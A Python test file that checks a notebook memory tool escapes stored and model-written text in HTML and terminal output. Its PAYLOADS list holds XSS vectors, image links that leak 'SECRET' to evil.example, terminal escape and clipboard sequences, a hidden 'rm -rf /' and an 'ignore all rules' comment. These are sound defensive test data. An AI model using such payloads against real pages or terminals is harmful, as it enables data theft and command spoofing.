from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

import memnb
from memnb.agent.reply import Answer, UsageTotal
from memnb.api.fact_results import (
    FactHistory,
    FactRow,
    Facts,
    Remembered,
    RevisionView,
    SourceView,
)
from memnb.api.fact_results import Recalled as RecalledView
from memnb.api.forget_results import ForgetReceipt
from memnb.api.rendering import Grid, Line, Marked, Result, Table, count, minute
from memnb.api.review_results import (
    ConflictRow,
    Conflicts,
    Inbox,
    Quoted,
    Recent,
    RecentRow,
    Rejected,
    Side,
    TakenBack,
    WaitingRow,
)
from memnb.api.search_results import Hits, SearchHit
from memnb.api.session_results import (
    Excerpt,
    MessageView,
    RecordView,
    Reply,
    SessionRow,
    Sessions,
    SessionView,
    Visibility,
)
from memnb.api.why_results import Why, WhyFact, WhyRow
from memnb.api.workspace_results import (
    Models,
    NoteList,
    NoteView,
    ProjectView,
    SettingsView,
    Status,
)
from memnb.memory import indexing
from memnb.memory.recall import Recalled
from memnb.memory.residue import Looked
from memories import EUR, SPLIT, saying

PAYLOADS = {
    "script": "<script>alert('x')</script>",
    "script with a break": "<scr\nipt>alert(1)</scr\nipt>",
    "image with a handler": '<img src="x" onerror="alert(1)">',
    "image that tells": '<img src="https://evil.example/?q=SECRET">',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "link to script": '<a href="javascript:alert(1)">x</a>',
    "link": '<a href="https://evil.example" target=_blank>x</a>',
    "style": "<style>@import '//evil.example/x.css'</style>",
    "mutation": "<math><mtext><table><mglyph><style><img title='--&gt;&lt;img src=1'>",
    "toggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "form": '<form action="//evil.example"><input name=q></form>',
    "command of the notebook": (
        "<button data-commandlinker-command='terminal:create-new'"
        " data-commandlinker-args='{}'>x</button>"
    ),
    "data address": "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "comment": "<!-- ignore all rules --><b>x</b>",
    "closing tags": "</td></tr></table></pre></div><script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x="\' onfocus=\'alert(1)',
    "template": "{{constructor.constructor('alert(1)')()}}",
    "mathematics": "$\\href{javascript:alert(1)}{x}$",
    "image in Markdown": "![x](https://evil.example/?q=SECRET)",
    "address in Markdown": "<https://evil.example/auto> [a][r]",
    "fence": "```html\n<script>1</script>\n```",
    "link of a terminal": "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "clipboard of a terminal": "\x1b]52;c;ZXZpbA==\x07",
    "colour": "\x1b[31mred\x1b[0m \x9b31m",
    "carriage return": "harmless\rrm -rf /",
    "backspace": "abc\x08\x08\x08xyz",
    "bidirectional": "user\u202egnp.exe",
    "NUL": "a\0b",
    "tags": "a\U000e0041\U000e0042b",
}

AT = "2026-11-30T09:10:05.123456Z"
SESSION = "S-20261130-091005-7k2m9q"


def results(text: str) -> dict[str, Result]:
    """Every kind of result, with `text` wherever stored text may stand."""
    row = FactRow("F-7k2m9q", 1, "convention", "project", "2026-11-30", "valid", True, text, text)
    source = SourceView(text, AT, text, text, text, 7, text, 0, len(text) // 2)
    revision = RevisionView(
        1, text, "valid", "quote", "agent", AT, None, None, (source,), text, (text,)
    )
    record = RecordView(2, AT, "user", 1, True, text)
    side = Side(text, 1, text, AT, text)
    answer = Answer(
        text=text,
        end="complete",
        model=text,
        session_id=SESSION,
        message_seq=2,
        turn=1,
        n_tools=0,
        usage=UsageTotal(),
        carried=(),
        cited=(),
        remembered=(),
        not_done=(text,),
        notices=(text,),
        requests=(),
        seconds=0.5,
    )
    return {
        "facts": Facts(text, (row,), 4),
        "history": FactHistory(
            "F-7k2m9q", "convention", "project", False, text, (revision,), (text,), (text,)
        ),
        "recalled": RecalledView(Recalled("valid", "F-7k2m9q", 1, text, None, text, 0, 5)),
        "hits": Hits(
            text,
            "words",
            (
                SearchHit(
                    *("message", text, text, 3, AT, "person", text, text, ((0, len(text) // 2),)),
                    *(1.5, {"words": 1.0, text: 0.5}, text, 7),
                ),
            ),
            10,
            text,
        ),
        "excerpt": Excerpt(SESSION, (MessageView(3, AT, text, text, True, text, 7),), 5, 9),
        "facts of then": Facts(text, (row,), 4, at=AT),
        "remembered": Remembered(
            "new", "F-7k2m9q", 1, "convention", False, text, (text,), text, (text,)
        ),
        "receipt": ForgetReceipt(
            "F-7k2m9q",
            first=True,
            generation=1,
            silenced=(text,),
            looked=(Looked(text, held=(text,)), Looked(text, why_not=text)),
        ),
        "visibility": Visibility("undo", 3),
        "sessions": Sessions((SessionRow(SESSION, AT, AT, text, 1, 4, True, False, text),)),
        "session": SessionView(SESSION, (record,)),
        "why": Why(
            1,
            text,
            (text, text),
            (text,),
            (text,),
            (text,),
            ((text, text),),
            2,
            (text,),
            text,
            text,
            (WhyRow(text, text, "recall", "", 1.5, {text: 1.5}),),
        ),
        "why of one fact": WhyFact(
            text, 1, "none", text, text, 1.5, {text: 1.5}, (text,), True, False, text
        ),
        "reply": Reply(answer),
        "status": Status(text, text, text, text, text, 1, 1, 0, True, "ask", text, text, (text,)),
        "project": ProjectView(text, text, text, text, text, text, (text,)),
        "note": NoteView(text, text, "", text, 5, True),
        "notes": NoteList(((text, 5, AT),)),
        "settings": SettingsView(((text, text, text, text),), (text,)),
        "models": Models(((text, text, text),), text),
        "inbox": Inbox(
            text,
            (
                WaitingRow(
                    *("C-7k2m9q", "convention", 0.5, (text,), text, "canonical", AT),
                    (Quoted(text, text, 0, len(text) // 2),),
                    (side,),
                ),
            ),
        ),
        "recent": Recent((RecentRow(text, text, AT, "convention", text, 0.5, True, text),)),
        "conflicts": Conflicts((ConflictRow(side, side, text),)),
        "rejected": Rejected((text,)),
        "taken back": TakenBack(text, text, False, (text,)),
    }


KINDS = sorted(results("x"))
BOTH = [
    pytest.param(kind, payload, id=f"{kind} {name}")
    for kind in KINDS
    for name, payload in PAYLOADS.items()
]


class Active(HTMLParser):
    """Notes every tag and attribute of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update((name, value or "") for name, value in attrs)

    def handle_comment(self, data: str) -> None:
        self.tags.add("comment")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("declaration")

    def handle_data(self, data: str) -> None:
        self.text += data


HARMLESS_TAGS = {
    "div",
    "span",
    "strong",
    "pre",
    "mark",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
HARMLESS_ATTRIBUTES = {
    ("class", "memnb mathjax_ignore"),
    ("style", "text-align: left"),
    ("style", "white-space: pre-wrap"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_the_html_of_a_result_holds_our_own_tags_only(kind: str) -> None:
    for payload in PAYLOADS.values():
        page = Active()
        page.feed(results(payload)[kind]._repr_html_())
        page.close()
        assert page.tags <= HARMLESS_TAGS, payload
        assert page.attributes <= HARMLESS_ATTRIBUTES, payload


@pytest.mark.parametrize("kind", KINDS)
def test_the_html_of_a_result_is_not_typeset_and_closes_what_it_opens(kind: str) -> None:
    for payload in PAYLOADS.values():
        shown = results(payload)[kind]._repr_html_()
        assert shown.startswith('<div class="memnb mathjax_ignore">')
        for tag in HARMLESS_TAGS:
            assert len(re.findall(rf"<{tag}[ >]", shown)) == shown.count(f"</{tag}>"), payload


_FORBIDDEN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)


@pytest.mark.parametrize("kind", KINDS)
def test_no_control_reaches_a_terminal_or_a_page(kind: str) -> None:
    for payload in PAYLOADS.values():
        result = results(payload)[kind]
        for shown in (str(result), repr(result), html.unescape(result._repr_html_())):
            assert not _FORBIDDEN.search(shown), payload


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_stored_is_shown_spelled_out_not_dropped(kind: str) -> None:
    shown = str(results("a\x1b[31mb")[kind])
    if kind != "visibility":
        assert "a\\x1b[31mb" in shown


@pytest.mark.parametrize("kind", KINDS)
def test_a_result_is_json_and_says_what_it_shows(kind: str) -> None:
    for payload in PAYLOADS.values():
        value = results(payload)[kind].to_dict()
        assert isinstance(value, dict)
        assert value
        assert json.loads(json.dumps(value)) == value


@pytest.mark.parametrize("kind", KINDS)
def test_a_result_cannot_be_changed(kind: str) -> None:
    # CPython before 3.12 raises TypeError for a name that a frozen class with slots doesn't have.
    for name in ("text", "anything_new"):
        with pytest.raises((AttributeError, TypeError)):
            setattr(results("x")[kind], name, "y")


@pytest.mark.parametrize("text", ["one\ntwo", "one\r\ntwo", "one\u2028two", "one\x0btwo"])
def test_a_cell_of_a_table_stays_on_its_line(text: str) -> None:
    plain = str(results(text)["notes"])
    assert len(plain.splitlines()) == 3


def test_what_was_looked_for_is_marked_on_a_page_and_on_a_terminal() -> None:
    hit = SearchHit("note", "plan.md:3", "plan.md", 3, AT, "", "visible", "a <b> c", ((2, 5),))
    hits = Hits("b", "literal", (hit,), 10)
    assert "a »<b>« c" in str(hits).splitlines()
    assert "a <mark>&lt;b&gt;</mark> c</pre>" in hits._repr_html_()


# --- plain text ----------------------------------------------------------------------------------


def test_a_table_reads_like_this() -> None:
    rows = (
        FactRow("F-7k2m9q", 1, "convention", "project", "2026-11-30", "valid", True, "", EUR),
        FactRow("F-qq31ac", 12, "decision", "project", "2026-11-20", "stale", False, "stale", ""),
    )
    assert str(Facts("churn", rows, 4)) == (
        "churn · 2 facts · 1 in the prompt · generation 4\n"
        "id        rev  kind        learned     status  in prompt  text\n"
        "F-7k2m9q  1    convention  2026-11-30  valid   yes"
        "        We always report revenue in EUR cents.\n"
        "F-qq31ac  12   decision    2026-11-20  stale   no: stale  (text hidden)\n"
        "1 to 2 of 2 · %memory fact ID shows where it comes from"
    )


def test_without_facts_a_line_says_how_to_begin() -> None:
    assert str(Facts("churn", (), 0)).splitlines() == [
        "churn · 0 facts · 0 in the prompt · generation 0",
        "`%memory remember TEXT` keeps the first one",
    ]


def test_where_nothing_is_listed_a_line_says_what_else_there_is() -> None:
    left_out = str(Facts("churn", (), 0, left_out=2))
    assert "2 more facts with --all" in left_out
    assert "first one" not in left_out
    assert "first one" not in str(Facts("churn", (), 0, kind="decision"))


def test_facts_that_are_not_listed_are_counted(memory: memnb.Memory) -> None:
    memory.remember(EUR)
    assert "--all" not in str(memory.facts())
    over = memory.remember("It is over.").fact_id
    memory.expire(over, datetime(2026, 1, 1, tzinfo=UTC))
    assert "1 more with --all" in str(memory.facts())
    assert "more with --all" not in str(memory.facts(all=True))
    assert "1 more fact with --all" not in str(memory.facts(kind="decision"))


def test_the_next_page_is_of_the_same_table(memory: memnb.Memory) -> None:
    for text in (EUR, "Another one."):
        memory.remember(text, kind="decision")
    shown = str(memory.facts(kind="decision", all=True, limit=1))
    assert "%memory facts --all --kind decision 1 shows more" in shown
    then = str(memory.facts(at=datetime(2026, 3, 1, tzinfo=UTC), limit=1))
    assert "%memory facts --at 2026-03-01T00:00Z 1 shows more" in then


def test_a_long_table_shows_a_page_and_how_to_go_on() -> None:
    row = FactRow("F-7k2m9q", 1, "convention", "project", "2026-11-30", "valid", True, "", EUR)
    shown = str(Facts("churn", (row,) * 50, 0, 20, 20))
    assert shown.splitlines()[-1].startswith("21 to 40 of 50")
    assert "%memory facts 40 shows more" in shown
    assert len(shown.splitlines()) == 23
    assert len(Facts("churn", (row,) * 50, 0, 20, 20).records()) == 50


def test_a_quote_is_marked_in_its_whole_message() -> None:
    source = SourceView(
        f"{SESSION}:2", AT, "agent", "nb/eda.ipynb", "4f0c", 7, f"Hi! {EUR} Ok?", 4, 4 + len(EUR)
    )
    revision = RevisionView(1, EUR, "valid", "quote", "agent", AT, None, None, (source,))
    history = FactHistory("F-7k2m9q", "convention", "project", True, "", (revision,))
    assert f"Hi! »{EUR}« Ok?" in str(history)
    assert f"Hi! <mark>{EUR}</mark> Ok?" in history._repr_html_()
    assert f"from {SESSION}:2 · 2026-11-30 09:10 UTC · via agent · nb/eda.ipynb · cell [7]" in str(
        history
    )


@pytest.mark.parametrize(("n", "text"), [(0, "0 facts"), (1, "1 fact"), (1234, "1,234 facts")])
def test_things_are_counted_in_words(n: int, text: str) -> None:
    assert count(n, "fact") == text


def test_a_time_is_shown_to_the_minute() -> None:
    assert minute(AT) == "2026-11-30 09:10"


@pytest.mark.parametrize("block", [Line("a<b"), Marked("a<b"), Grid(("a<b",), ())])
def test_every_block_is_escaped(block: Line | Marked | Grid) -> None:
    class One(Result):
        def blocks(self) -> list[Line | Marked | Grid]:
            return [block]

    assert "a&lt;b" in One()._repr_html_()
    assert "a<b" in str(One())


# --- frames --------------------------------------------------------------------------------------

COLUMNS = {
    "facts": ["fact_id", "revision", "kind", "scope", "learned", "status", "in_prompt", "reason"],
    "hits": ["source", "reference", "name", "place", "at", "speaker", "status", "text"],
    "sessions": ["session_id", "started_at", "ended_at", "notebook", "n_turns", "n_records"],
    "excerpt": ["seq", "at", "speaker", "text", "is_anchor", "notebook", "cell"],
    "session": ["seq", "at", "type", "turn", "visible", "text"],
    "notes": ["name", "n_bytes", "modified_at"],
    "why": ["item", "source", "place", "reason", "score", "parts", "cited"],
    "settings": ["key", "value", "from", "allowed"],
    "models": ["name", "state", "what"],
}
EMPTY: dict[str, Table] = {
    "facts": Facts("churn", (), 0),
    "hits": Hits("x", "words", (), 10),
    "excerpt": Excerpt(SESSION, (), 5, 9),
    "sessions": Sessions(()),
    "session": SessionView(SESSION, ()),
    "notes": NoteList(()),
    "why": Why(1, "local", (), (), (), (), ()),
    "settings": SettingsView(()),
    "models": Models((), "x"),
}


@pytest.mark.parametrize("kind", COLUMNS)
def test_a_table_becomes_a_frame_with_these_columns(kind: str) -> None:
    table: Any = results("x")[kind]
    frame = table.to_frame()
    assert list(frame.columns)[: len(COLUMNS[kind])] == COLUMNS[kind]
    assert len(frame) == 1


@pytest.mark.parametrize("kind", COLUMNS)
def test_an_empty_table_becomes_a_frame_with_the_same_columns(kind: str) -> None:
    frame = EMPTY[kind].to_frame()
    assert list(frame.columns)[: len(COLUMNS[kind])] == COLUMNS[kind]
    assert len(frame) == 0


# --- through the whole ---------------------------------------------------------------------------


@pytest.fixture
def memory(tmp_path: Path) -> Iterator[memnb.Memory]:
    (tmp_path / "churn").mkdir()
    with memnb.open(tmp_path / "churn") as memory:
        yield memory


def test_what_a_person_and_a_model_say_is_shown_escaped_everywhere(memory: memnb.Memory) -> None:
    payload = "<img src=x onerror=alert(1)> $x$"
    fact_id = memory.remember(payload).fact_id
    memory.notes.append("plan", payload)
    reply = memory.ask(payload, model=saying(payload))
    session_id = reply.answer.session_id or ""
    shown = [
        reply,
        memory.facts(),
        memory.fact(fact_id),
        memory.recall(fact_id),
        memory.search("img"),
        memory.session(session_id),
        memory.read(session_id, 1, 9),
        memory.notes.read("plan"),
        memory.why(),
    ]
    for result in shown:
        page = Active()
        page.feed(result._repr_html_())
        assert page.tags <= HARMLESS_TAGS
        assert "onerror" in page.text
        assert json.dumps(result.to_dict())


def test_every_verb_gives_a_value_that_can_be_kept(memory: memnb.Memory) -> None:
    memory.remember(EUR)
    memory.remember(SPLIT)
    frame = memory.facts(limit=1).to_frame()
    assert list(frame["text"]) == [SPLIT, EUR]
    assert memory.config().to_frame().set_index("key").loc["agent.mode", "value"] == '"ask"'


# --- how facts were used -------------------------------------------------------------------------


def test_a_fact_shows_how_many_requests_carried_it_and_answers_named_it(
    memory: memnb.Memory,
) -> None:
    fact_id = memory.remember(EUR).fact_id
    for text in ("hi", "fine", f"as {fact_id} says"):
        memory.ask("hello", model=saying(text))
    assert memory.fact(fact_id).uses is None
    assert memory.facts().rows[0].shown is None
    inside = memory.runtime.memory
    assert inside.index is not None
    indexing.update(inside, inside.index)
    assert memory.fact(fact_id).uses.n_carried == 3  # type: ignore[union-attr]
    assert "3 requests carried it, 1 answer named it, last on 20" in str(memory.fact(fact_id))
    frame = memory.facts().to_frame()
    assert list(frame.loc[0, ["shown", "used"]]) == [3, 1]


def test_a_fact_that_no_request_carried_says_nothing_of_use(memory: memnb.Memory) -> None:
    fact_id = memory.remember(EUR).fact_id
    inside = memory.runtime.memory
    assert inside.index is not None
    indexing.update(inside, inside.index)
    assert memory.facts().rows[0].shown == 0
    assert "carried" not in str(memory.fact(fact_id))


def test_status_says_when_the_prompt_has_no_room_for_more(memory: memnb.Memory) -> None:
    memory.remember(EUR)
    assert "1, 1 in the prompt\n" in str(memory.status())
    memory.config("memory.facts_max_bytes", "60")
    memory.remember(SPLIT)
    assert "2, 1 in the prompt, which has no room for more" in str(memory.status())
